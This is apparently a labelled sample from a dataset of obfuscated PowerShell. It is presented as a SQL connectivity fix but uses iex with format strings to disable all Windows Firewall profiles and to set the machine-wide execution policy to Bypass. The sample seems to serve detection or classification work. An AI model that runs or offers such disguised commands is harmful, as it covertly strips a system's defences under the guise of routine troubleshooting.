# description: Connectivity fix that disables all Windows Firewall profiles and the execution policy via iex on format strings.
# family: security
# obfuscated: yes
Test-NetConnection 10.0.0.5 -Port 1433 | Select-Object TcpTestSucceeded
iex ('{0}-{1} -Profile Domain,Public,Private -Enabled False' -f 'Set', 'NetFirewallProfile')
$p = 'By' + 'pass'
iex ("Set-ExecutionPolicy {0} -Scope LocalMachine -Force" -f $p)
Test-NetConnection 10.0.0.5 -Port 1433 | Select-Object TcpTestSucceeded
